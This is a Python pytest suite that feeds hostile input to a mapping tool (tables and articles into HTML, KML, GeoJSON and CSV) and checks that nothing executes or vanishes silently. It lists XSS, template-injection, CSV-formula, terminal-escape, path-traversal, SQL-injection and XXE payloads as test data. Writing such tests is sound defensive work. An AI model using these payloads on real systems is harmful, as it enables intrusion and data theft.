"""Hostile input through every door: nothing of it executes anywhere, and nothing of it is lost without a word.

Two tables, what is hostile and where it stands, make the cases; the program runs once on each input.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, replace
from html.parser import HTMLParser
from pathlib import Path
from xml.etree.ElementTree import fromstring

import pytest

from mapper.archives import read_archives
from mapper.articles import parse_articles
from mapper.cli import run_main
from mapper.model import Article, Issue
from mapper.records import claim_rows, read_table, write_csv

HOSTILE = {
    "template": "{{7*7}}",
    "template-block": "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "template-comment": "{# x #}${7*7}#{7*7}<%= 7*7 %>",
    "script": "</script><script>window.PWNED=1</script>",
    "image": "<img src=x onerror=window.PWNED=1>",
    "svg": "<svg/onload=window.PWNED=1>",
    "attribute": "\" onmouseover=window.PWNED=1 x='",
    "comment": "--><script>window.PWNED=1</script><!--",
    "cdata": "]]><script>window.PWNED=1</script>",
    "frame": "<iframe srcdoc='<script>parent.PWNED=1</script>'>",
    "style": "</style><style>*{background:url(https://example.org/x)}",
    "formula": '=HYPERLINK("https://example.org/?"&A1,"x")',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "quoted-formula": "'=1+1",
    "escape": "\x1b[2J\x1b]0;owned\x07x",
    "c1": "\x9b31mred\x9b0m",
    "override": "Rawa \u202egnp.exe\u202c",
    "isolate": "\u2066Rawa\u2069 \u200fx",
    "null": "Ra\x00wa",
    "surrogate-escape": "Rawa\ufffd\uffff",
    "combining": "R" + "\u0301" * 300,
    "long": "x" * 20_000,
    "entity": "&lt;script&gt;&#0;&xxe;",
    "percent": "%00%2e%2e%2f%s%n",
    "path": "../../../../etc/passwd",
    "newlines": "Rawa\r\n\r\nHTTP/1.1 200 OK",
    "line-separator": "Rawa\u2028window.PWNED=1\u2029",
    "prototype": "__proto__",
    "sql": "Rawa'); DROP TABLE places;--",
}  # fmt: skip
LINKS = (
    "javascript:window.PWNED=1", "JaVaScRiPt:window.PWNED=1", " javascript:window.PWNED=1", "java\nscript:window.PWNED=1",
    "data:text/html,<script>window.PWNED=1</script>", "vbscript:x", "file:///etc/passwd", "//example.org/x", "\x01javascript:x",
    'https://example.org/"onclick=window.PWNED=1', "blob:x", "https://user:pass@example.org/", "http://[", "https:x" * 3000,
)  # fmt: skip
DATES = (
    "0000-00-00",
    "9999-12-31",
    "99999-01-01",
    "-0044-03-15",
    "2017-02-31",
    "2017-13-01",
    "1e9",
    "٢٠١٧-٠١-٠١",
    "2017-01-01/1900-01-01",
)
STEER = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")


@dataclass(frozen=True, slots=True)
class Run:
    code: int
    out: str
    err: str


def mapper(*arguments: object) -> Run:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = run_main([str(a) for a in arguments])
    return Run(code, out.getvalue(), err.getvalue())


class Page(HTMLParser):
    """What a browser would run or load from a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.scripts = 0
        self.handlers: list[str] = []
        self.loads: list[str] = []
        self.policy = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.scripts += tag == "script"
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append(name)
            if name in ("src", "srcdoc", "data", "action") or (name == "href" and tag == "link"):
                self.loads.append(str(value))
        if dict(attrs).get("http-equiv") == "Content-Security-Policy":
            self.policy = dict(attrs).get("content") or ""


def rows() -> list[dict[str, str]]:
    """A row per hostile value (in every free field), per link and per date."""
    made = []
    places = [(name, text, "https://example.org/a", "2017-11-17") for name, text in HOSTILE.items()]
    places += [(f"link-{i}", f"Link {i}", link, "2017-11-17") for i, link in enumerate(LINKS)]
    places += [(f"date-{i}", f"Date {i}", "", day) for i, day in enumerate(DATES)]
    for number, (_, text, link, day) in enumerate(places):
        made.append(
            {
                "date": day, "place": text, "lat": f"{33 + number % 9 * 0.3:.2f}", "lon": f"{43 + number // 9 * 0.3:.2f}",
                "country": "IQ", "predicate": "captured", "actor": "iraq", "other": "is", "publisher": text, "url": link,
                "quote": f"They took {text} today.", "note": text,
            }
        )  # fmt: skip
    return made


def write_table(path: Path) -> Path:
    with path.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.DictWriter(stream, list(rows()[0]))
        writer.writeheader()
        writer.writerows(rows())
    return path


def write_all(home: Path) -> Path:
    """Everything the program writes from the hostile table and the hostile articles."""
    write_table(home / "table.csv")
    with (home / "articles.jsonl").open("w", encoding="utf-8") as stream:
        for name, text in HOSTILE.items():
            told = f"The Iraqi army retook Rawa from ISIS on Friday, said {text}. {text} was quiet."
            record = {
                "id": name,
                "title": text,
                "text": told,
                "url": text,
                "publisher": text,
                "published": "2017-11-18",
            }
            stream.write(json.dumps(record) + "\n")
    for source in ("table.csv", "articles.jsonl"):
        stem = source.split(".")[0]
        for target in ("html", "geojson", "kml"):
            done = mapper("-v", "map" if target == "html" else "export", home / source, "-o", home / f"{stem}.{target}")
            (home / f"{stem}.{target}.log").write_text(f"{done.code}\n{done.out}{done.err}", encoding="utf-8")
        for command in ("timeline", "claims"):
            if (command, stem) != ("claims", "table"):
                done = mapper(command, home / source, "-o", home / f"{stem}-{command}.csv")
                (home / f"{stem}-{command}.log").write_text(f"{done.code}\n{done.out}{done.err}", encoding="utf-8")
    return home


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_all(tmp_path_factory.mktemp("hostile"))


def written(folder: Path, pattern: str) -> list[Path]:
    found = sorted(folder.glob(pattern))
    assert found, f"nothing written like {pattern}: {sorted(p.name for p in folder.iterdir())}"
    return found


@pytest.mark.parametrize("log", ["table.html", "table.geojson", "table.kml", "articles.html", "articles.geojson"])
def test_the_program_comes_through_and_its_words_cannot_steer_a_terminal(folder: Path, log: str) -> None:
    code, _, said = (folder / f"{log}.log").read_text(encoding="utf-8").partition("\n")
    assert code == "0", said[-2000:]
    assert not STEER.search(said)


@pytest.mark.parametrize("name", ["table.html", "articles.html"])
@pytest.mark.parametrize("case", [*HOSTILE, *(f"link-{i}" for i in range(len(LINKS)))])
def test_no_text_becomes_part_of_the_page(folder: Path, name: str, case: str) -> None:
    page = read_page(folder / name)
    value = HOSTILE.get(case) or LINKS[int(case.rpartition("-")[2])]
    raw = (folder / name).read_text(encoding="utf-8")
    if set(value) & set('<>"{') and len(value) < 5_000:
        assert value not in re.sub(r"<script[^>]*type=\"application/json\"[^>]*>.*?</script>", "", raw, flags=re.DOTALL)
    assert not page.handlers
    assert not [load for load in page.loads if not load.startswith("data:image/")]
    assert "connect-src 'none'" in page.policy or "default-src 'none'" in page.policy


_PAGES: dict[Path, Page] = {}


def read_page(path: Path) -> Page:
    if path not in _PAGES:
        _PAGES[path] = Page(path.read_text(encoding="utf-8"))
    return _PAGES[path]


def test_hostile_text_adds_no_script(folder: Path, tmp_path: Path) -> None:
    (tmp_path / "calm.csv").write_text("date,place,lat,lon,predicate,actor\n2017-11-17,Rawa,34.4,41.9,captured,iraq\n")
    mapper("map", tmp_path / "calm.csv", "-o", tmp_path / "calm.html")
    calm = Page((tmp_path / "calm.html").read_text(encoding="utf-8")).scripts
    assert read_page(folder / "table.html").scripts == calm
    assert read_page(folder / "articles.html").scripts == calm


@pytest.mark.parametrize("case", list(HOSTILE))
def test_no_cell_is_a_formula_and_every_cell_is_there(folder: Path, case: str) -> None:
    found = []
    for path in written(folder, "articles-claims.csv"):
        with path.open(encoding="utf-8", newline="") as stream:
            found += [row for row in csv.DictReader(stream) if row["article_id"] == case]
    assert found, "no claim of this article"
    for row in found:
        for cell in row.values():
            number = re.fullmatch(r"[-+]?\d+(\.\d*)?([eE][-+]?\d+)?", cell)
            assert number or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell[:40]


@pytest.mark.parametrize("case", [*HOSTILE, *(f"link-{i}" for i in range(len(LINKS)))])
def test_every_place_of_the_table_is_on_the_map_or_reported(folder: Path, case: str) -> None:
    names = {str(f["properties"].get("name") or f["properties"].get("place")) for f in features(folder)}
    value = HOSTILE.get(case) or f"Link {case.rpartition('-')[2]}"
    said = (folder / "table.geojson.log").read_text(encoding="utf-8")

    def plain(text: str) -> str:
        return re.sub(r"[\W_]+", "", text)[:60]

    assert any(plain(value) == plain(name) for name in names) or plain(value) in plain(said)


@pytest.mark.parametrize("case", range(len(DATES)))
def test_a_date_out_of_range_is_reported_or_mapped_as_it_says(folder: Path, case: int) -> None:
    names = {str(f["properties"].get("name") or f["properties"].get("place")) for f in features(folder)}
    said = (folder / "table.geojson.log").read_text(encoding="utf-8")
    assert f"Date {case}" in names or DATES[case] in said


_FEATURES: dict[Path, list[dict[str, object]]] = {}


def features(folder: Path) -> list:
    if folder not in _FEATURES:
        found = []
        for path in written(folder, "table*.geojson"):
            found += json.loads(path.read_text(encoding="utf-8"))["features"]
        _FEATURES[folder] = found
    return _FEATURES[folder]


def links(value: object) -> Iterator[str]:
    if isinstance(value, dict):
        for key, item in value.items():
            if "url" in key.lower() or "link" in key.lower():
                yield str(item)
            yield from links(item)
    elif isinstance(value, list):
        for item in value:
            yield from links(item)


def test_geojson_has_no_link_but_to_the_web(folder: Path) -> None:
    for feature in features(folder):
        for link in links(feature["properties"]):
            for one in filter(None, re.split(r"[\s;|]+", link)):
                assert not re.match(r"\W*(?:javascript|data|vbscript|file|blob)\s*:", one, re.IGNORECASE), one[:80]


@pytest.mark.parametrize("name", ["table*.kml", "articles*.kml"])
def test_kml_is_well_formed_and_holds_no_markup_of_others(folder: Path, name: str) -> None:
    for path in written(folder, name):
        text = path.read_text(encoding="utf-8")
        fromstring(text)  # noqa: S314 - our own output
        assert "<script" not in text
        assert "<img" not in text


NAMES = (
    "../../2017-11-18-up.txt", "/etc/2017-11-18.txt", "C:\\x\\2017-11-18.txt", "..\\..\\2017-11-18.txt", "\x1b[2J2017-11-18.txt",
    "\u202etxt.2017-11-18.txt", "{{7*7}}.txt", "<img src=x onerror=x>.txt", "=cmd.txt", "con.txt", "x" * 300 + ".txt", "a//b/./c.txt",
)  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
def test_a_member_of_an_archive_is_read_in_place_wherever_its_name_points(tmp_path: Path, name: str) -> None:
    home = tmp_path / "inside"
    home.mkdir()
    with zipfile.ZipFile(home / "a.zip", "w") as archive:
        archive.writestr(name, "The army retook Rawa.")
    before = sorted(tmp_path.rglob("*"))
    found = list(read_archives([str(home)]))
    assert [a.text for a in found if isinstance(a, Article)] == ["The army retook Rawa."]
    assert sorted(tmp_path.rglob("*")) == before


@pytest.mark.parametrize(
    "name",
    [
        "{{7*7}}.txt",
        "<b onclick=x>.txt",
        "=1+1.txt",
        "\x1b[31mred.txt",
        "\u202etxt.nur",
        "-o.txt",
        "a\nb.txt",
        "x" * 240 + ".txt",
    ],
)
def test_a_file_may_have_any_name(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.write_text("The Iraqi army retook Rawa from ISIS on 17 November 2017.")
    done = mapper("claims", path)
    assert not STEER.search(done.err)
    assert "captured" in done.out or "cannot read" in done.err


@pytest.mark.parametrize("argument", ["x" * 5000, "/dev/null/x", "no/such\x1bfile.txt", "-", "/proc/self/mem", "*"])
def test_an_argument_that_is_no_file_ends_in_one_line(argument: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(b"\xff\x00\x1b[2J")))
    done = mapper("claims", argument)
    assert done.code in ((0, 1, 2) if argument == "-" else (1, 2))
    assert "Traceback" not in done.err
    assert not STEER.search(done.err)


XML = {
    "entity-file": '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><item><description>&x;</description></item></channel></rss>',
    "billion": '<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><rss><channel><item><description>&b;</description></item></channel></rss>',
    "external-dtd": '<!DOCTYPE rss SYSTEM "https://example.org/x.dtd"><rss><channel></channel></rss>',
    "encoding": '<?xml version="1.0" encoding="no-such"?><rss/>',
    "unclosed": "<rss><channel><item><title>x",
    "deep": "<a>" * 20_000,
    "instruction": '<?xml-stylesheet href="javascript:x"?><html/>',
}


REFUSED = (
    "http://[", "http://[::1", "https://exa mple.org/", "http://%zz/", "https://e.org:99999/", "https://e.org:x/", "http://999.1.1.1/",
    "https://ex^ample.org/", "https://", "https:///a", "https:e.org", "//e.org/a", "www.example.org/a", "ftp://e.org/a",
    "javascript:window.PWNED=1", "http://\u202egro.elpmaxe/", "https://e.org/<b>", "https://?q", "http://\x00e.org/",
)  # fmt: skip
OPENED = (
    "https://example.org/a?b=c#d", "HTTP://EXAMPLE.ORG", "https://\u00e9xample.org/\u0631\u0627\u0648\u0629", "http://[::1]/", "https://e.org/it's",
    "http://192.0.2.1:8080/a", " https://e.org/a ", "https://user:pass@example.org/",
)  # fmt: skip


@pytest.mark.parametrize("address", [*REFUSED, *OPENED])
def test_an_address_is_one_that_a_browser_opens_or_is_reported_with_its_line(address: str) -> None:
    hand = io.StringIO(newline="")
    csv.writer(hand).writerows(
        [("date", "place", "predicate", "actor", "url"), ("2017-11-17", "Rawa", "captured", "iraq", address)]
    )
    (claim,) = (table := read_table(io.StringIO(hand.getvalue(), newline=""), name="t.csv")).claims
    ours = io.StringIO(newline="")
    write_csv(claim_rows([replace(claim, source=replace(claim.source, url=address))], [], {}), ours)
    (again,) = (second := read_table(io.StringIO(ours.getvalue(), newline=""), name="c.csv")).claims
    record = json.dumps({"id": "a", "text": "Rawa fell on 17 November 2017.", "url": address})
    read = list(parse_articles("\n" + record, name="a.jsonl", kind=".jsonl"))
    (article,) = (one for one in read if isinstance(one, Article))
    told = [i for i in (*table.issues, *second.issues, *read) if isinstance(i, Issue) and i.code == "bad-address"]
    if address in OPENED:
        assert {claim.source.url, again.source.url, article.url} == {address.strip()}
        assert not told
    else:
        assert {claim.source.url, again.source.url, article.url} == {""}
        assert [(i.file, i.line, i.level) for i in told] == [
            ("t.csv", 2, "warning"), ("c.csv", 2, "warning"), ("a.jsonl", 2, "warning")
        ]  # fmt: skip
        assert all("write https://, a host" in i.message and i.value for i in told)


@pytest.mark.parametrize("case", list(XML))
def test_a_feed_opens_nothing_and_is_reported(tmp_path: Path, case: str) -> None:
    (tmp_path / "a.rss").write_text(XML[case])
    found = list(read_archives([str(tmp_path / "a.rss")]))
    assert found
    assert all(isinstance(f, Issue) for f in found)
    assert "root:" not in repr(found)


def test_there_are_two_hundred_cases() -> None:
    cases = 2 * (len(HOSTILE) + len(LINKS)) + 2 * len(HOSTILE) + len(LINKS) + len(DATES) + len(NAMES) + len(XML) + 14
    assert cases >= 200
